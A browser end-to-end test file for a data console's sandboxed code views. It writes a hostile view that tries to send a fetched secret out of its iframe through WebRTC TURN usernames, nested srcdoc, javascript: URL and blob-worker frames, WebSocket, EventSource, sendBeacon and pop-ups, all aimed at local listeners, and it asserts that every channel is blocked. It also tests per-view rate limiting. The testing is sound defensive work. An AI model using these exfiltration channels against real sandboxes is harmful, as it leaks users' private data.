/**
 * Issue 25 item 4's attack list in real Chromium: a code view tries every way out of its frame
 * that its CSP does not close by itself (decision 0150), each aimed at a real listener this test
 * starts, and the listeners must receive nothing:
 * - `RTCPeerConnection` (and the `webkitRTCPeerConnection` alias) with a STUN and a TURN server on
 *   a local UDP port, a result row in the TURN username;
 * - the same from a nested `srcdoc` frame's script and its event-handler attribute, from a
 *   `javascript:` URL frame, and from a blob worker;
 * - WebSocket, EventSource and sendBeacon to a local TCP port (closed by `connect-src 'none'`), and a
 *   pop-up (the sandbox has no `allow-popups`).
 * Then a view that runs an action 300 times in a loop meets the per-view run limit (decision 0151):
 * most calls are refused with the viewer-facing message, the page says so, and the server answers
 * 429 Problem Details.
 */
import { createSocket, type Socket } from 'node:dgram';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Frame, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { defaultViewRunsPerMinute } from '../../shared/domain/views/view-run-limit.ts';
import { loginToken } from '../support/runtime.ts';
import { type ConsoleUnderTest, login, startConsole } from './support/browser.ts';

const base = '/p/demo/e/development';
const udpChannels = ['top', 'webkit', 'srcdocScript', 'srcdocHandler', 'javascriptUrl', 'worker'] as const;
type UdpChannel = (typeof udpChannels)[number];

let console_: ConsoleUnderTest;
let page: Page;
let token: string;
const listeners = new Map<UdpChannel, { socket: Socket; port: number; packets: string[] }>();
let tcp: Server;
let tcpPort = 0;
const tcpHits: string[] = [];

async function call(method: string, path: string, body?: unknown) {
  const response = await fetch(`${console_.url}${path}`, {
    method,
    headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
    ...(body === undefined ? {} : { body: JSON.stringify(body) }),
  });
  const text = await response.text();
  return { status: response.status, headers: response.headers, body: text ? JSON.parse(text) : undefined };
}

async function saveCodeView(id: string, source: string, actionIds: string[]) {
  const saved = await call('PUT', `/api/v1/projects/demo/views/${id}`, {
    id,
    name: id,
    definition: { kind: 'code', parameters: [], source, actionIds },
  });
  expect(saved.status, JSON.stringify(saved.body)).toBeLessThan(300);
}

const frameOf = async (): Promise<Frame> => {
  const handle = await page.waitForSelector('iframe.code-view-frame');
  const frame = await handle.contentFrame();
  if (!frame) throw new Error('no frame');
  return frame;
};

beforeAll(async () => {
  for (const name of udpChannels) {
    const socket = createSocket('udp4');
    const packets: string[] = [];
    socket.on('message', (message) => packets.push(message.toString('latin1')));
    await new Promise<void>((resolve) => socket.bind(0, '127.0.0.1', resolve));
    listeners.set(name, { socket, port: socket.address().port, packets });
  }
  tcp = createServer((request, response) => {
    tcpHits.push(`${request.method} ${request.url}`);
    response.end();
  });
  tcp.on('upgrade', (request, socket) => {
    tcpHits.push(`upgrade ${request.url}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => tcp.listen(0, '127.0.0.1', resolve));
  tcpPort = (tcp.address() as AddressInfo).port;

  console_ = await startConsole();
  token = await loginToken(console_.runtime);
  const action = await call('PUT', '/api/v1/projects/demo/actions/cv-token', {
    id: 'cv-token',
    name: 'Token',
    kind: 'sql',
    dataSourceId: 'demo-postgres',
    parameters: [],
    statements: [{ title: 'Token', sql: "SELECT 'row-secret-' || 42 AS token" }],
  });
  expect(action.status, JSON.stringify(action.body)).toBeLessThan(300);
  page = await console_.newPage();
  page.setDefaultTimeout(15_000);
  await login(page, 'admin@dogu.local', `${base}/views`);
}, 180_000);

afterAll(async () => {
  await console_?.close();
  for (const { socket } of listeners.values()) socket.close();
  tcp?.close();
});

/** Code that makes a peer connection to the channel's STUN/TURN port; `username` is a JS expression. */
function peerConnection(constructorName: string, port: number, username: string): string {
  const servers = `[{ urls: 'stun:127.0.0.1:${port}' }, { urls: 'turn:127.0.0.1:${port}?transport=udp', username: ${username}, credential: 'x' }]`;
  return [
    `const pc = new ${constructorName}({ iceServers: ${servers} });`,
    "pc.createDataChannel('out');",
    'pc.createOffer().then((offer) => pc.setLocalDescription(offer));',
  ].join(' ');
}

function attackView(): string {
  const port = (name: UdpChannel) => listeners.get(name)!.port;
  // The nested documents get the code as text: their realms are the ones that would still have WebRTC.
  const nested = {
    srcdocScript: peerConnection('RTCPeerConnection', port('srcdocScript'), "'srcdoc-script'"),
    srcdocHandler: peerConnection('RTCPeerConnection', port('srcdocHandler'), "'srcdoc-handler'"),
    javascriptUrl: peerConnection('RTCPeerConnection', port('javascriptUrl'), "'javascript-url'"),
    worker: `postMessage('worker ran'); ${peerConnection('RTCPeerConnection', port('worker'), "'worker'")}`,
  };
  return [
    "import { useEffect, useState } from 'react';",
    "import { runAction } from 'dogu';",
    `const nested = ${JSON.stringify(nested)};`,
    `const tcp = 'http://127.0.0.1:${tcpPort}';`,
    'const attempt = (name, fn) => { try { fn(); return name + ": constructed"; } catch (e) { return name + ": blocked (" + e.name + ")"; } };',
    'const escapeAttribute = (text) => text.replace(/&/g, "&amp;").replace(/"/g, "&quot;");',
    'export default function Channels() {',
    '  const [lines, setLines] = useState([]);',
    '  useEffect(() => { (async () => {',
    "    const { rows } = await runAction('cv-token');",
    '    const secret = rows[0].token;',
    '    const out = [];',
    `    out.push(attempt('top', () => { ${peerConnection('RTCPeerConnection', port('top'), 'secret')} }));`,
    `    out.push(attempt('webkit', () => { ${peerConnection('webkitRTCPeerConnection', port('webkit'), 'secret')} }));`,
    "    out.push('webrtc names: ' + Object.getOwnPropertyNames(window).filter((n) => /RTC/.test(n)).join(','));",
    '    const srcdoc = document.createElement("iframe");',
    "    srcdoc.srcdoc = '<script>' + nested.srcdocScript + '</' + 'script><img src=\"data:,\" onerror=\"' + escapeAttribute(nested.srcdocHandler) + '\">';",
    '    document.body.append(srcdoc);',
    '    const jsUrl = document.createElement("iframe");',
    "    jsUrl.src = 'javascript:' + encodeURIComponent(nested.javascriptUrl);",
    '    document.body.append(jsUrl);',
    '    out.push(await new Promise((resolve) => { try {',
    "      const worker = new Worker(URL.createObjectURL(new Blob([nested.worker], { type: 'text/javascript' })));",
    "      worker.onmessage = () => resolve('worker: reached');",
    "      worker.onerror = () => resolve('worker: blocked (error)');",
    "      setTimeout(() => resolve('worker: blocked (silent)'), 1500);",
    "    } catch (e) { resolve('worker: blocked (' + e.name + ')'); } }));",
    "    out.push(attempt('websocket', () => new WebSocket(tcp.replace('http', 'ws') + '/ws?' + secret)));",
    "    out.push(attempt('eventsource', () => new EventSource(tcp + '/events?' + secret)));",
    "    out.push(attempt('beacon', () => { if (!navigator.sendBeacon(tcp + '/beacon', secret)) throw new Error('refused'); }));",
    "    out.push(attempt('popup', () => { if (window.open('about:blank') === null) throw new Error('refused'); }));",
    "    out.push('secret: ' + secret);",
    '    setLines(out);',
    '  })(); }, []);',
    '  return <pre id="out">{lines.join(\'\\n\')}</pre>;',
    '}',
  ].join('\n');
}

describe("a code view's ways out", () => {
  it('has no WebRTC in its frame or in any document it creates, and no other network', async () => {
    await saveCodeView('cv-channels', attackView(), ['cv-token']);
    await page.goto(`${base}/views/cv-channels`);
    const frame = await frameOf();
    await expect.poll(() => frame.locator('#out').innerText(), { timeout: 15_000 }).toContain('secret: ');
    const out = await frame.locator('#out').innerText();
    // The view did get the row it would send: the channels, not the data, are what is missing.
    expect(out).toContain('secret: row-secret-42');
    expect(out).toMatch(/^top: blocked/m);
    expect(out).toMatch(/^webkit: blocked/m);
    expect(out).toMatch(/^webrtc names: $/m);
    expect(out).toMatch(/^worker: blocked/m);
    expect(out).toMatch(/^popup: blocked/m);
    // ICE gathering sends its first STUN binding requests within a second; give it three.
    await new Promise((resolve) => setTimeout(resolve, 3000));
    const received = Object.fromEntries(
      udpChannels.map((name) => [name, listeners.get(name)!.packets.length]),
    );
    expect(received).toEqual(Object.fromEntries(udpChannels.map((name) => [name, 0])));
    expect(tcpHits).toEqual([]);
    // The view itself kept working: the page shows its output and no crash.
    expect(await page.locator('.code-view .error-banner').count()).toBe(0);
  }, 60_000);
});

describe('runs from one view session', () => {
  it('are limited: a loop of 300 calls is refused past the limit, with a clear message and a 429', async () => {
    await saveCodeView(
      'cv-loop',
      [
        "import { useEffect, useState } from 'react';",
        "import { runAction } from 'dogu';",
        'export default function Loop() {',
        "  const [text, setText] = useState('running');",
        '  useEffect(() => { (async () => {',
        '    let ok = 0, refused = 0, message = "";',
        '    for (let i = 0; i < 300; i++) {',
        "      try { await runAction('cv-token'); ok++; }",
        "      catch (e) { if (e.code === 'too_many_requests') { refused++; message = e.title + ': ' + e.detail; } else throw e; }",
        '    }',
        "    setText('ok ' + ok + ' refused ' + refused + ' message ' + message);",
        '  })(); }, []);',
        '  return <pre id="out">{text}</pre>;',
        '}',
      ].join('\n'),
      ['cv-token'],
    );
    await page.goto(`${base}/views/cv-loop`);
    const frame = await frameOf();
    await expect.poll(() => frame.locator('#out').innerText(), { timeout: 60_000 }).toContain('refused');
    const [, ok, refused, message] = /^ok (\d+) refused (\d+) message (.*)$/s.exec(
      await frame.locator('#out').innerText(),
    )!;
    const limit = defaultViewRunsPerMinute;
    // A fixed one-minute window: a loop that crosses a minute boundary may get two windows' worth.
    expect(Number(ok)).toBeGreaterThan(0);
    expect(Number(ok)).toBeLessThanOrEqual(2 * limit);
    expect(Number(refused)).toBe(300 - Number(ok));
    expect(Number(refused)).toBeGreaterThanOrEqual(300 - 2 * limit);
    expect(message).toMatch(
      new RegExp(
        `^Too many runs: This view ran actions too often: at most ${limit} runs a minute for one viewer\\. Try again in \\d+ s\\.$`,
      ),
    );
    await page
      .getByRole('alert')
      .filter({
        hasText: `This view ran actions too often: at most ${limit} runs a minute for one viewer. Runs past that were refused.`,
      })
      .waitFor();

    // The server enforces it: runs that name the view are refused with 429 Problem Details.
    let refusal: Awaited<ReturnType<typeof call>> | undefined;
    for (let i = 0; i <= 2 * limit && !refusal; i++) {
      const run = await call(
        'POST',
        '/public/v1/projects/demo/environments/development/actions/cv-token/executions',
        { arguments: {}, source: { viewId: 'cv-loop' } },
      );
      if (run.status === 429) refusal = run;
      else expect(run.status, JSON.stringify(run.body)).toBe(200);
    }
    expect(refusal?.headers.get('content-type')).toContain('application/problem+json');
    expect(Number(refusal?.headers.get('retry-after'))).toBeGreaterThan(0);
    expect(refusal?.body).toMatchObject({
      status: 429,
      code: 'too_many_requests',
      viewId: 'cv-loop',
      limitPerMinute: limit,
      errors: [{ pointer: '#/source/viewId' }],
    });
    expect(refusal?.body.detail).toContain("Too many runs from view 'cv-loop'");
    // The same action without a view is not counted against the view.
    const plain = await call(
      'POST',
      '/public/v1/projects/demo/environments/development/actions/cv-token/executions',
      { arguments: {} },
    );
    expect(plain.status).toBe(200);
  }, 120_000);
});
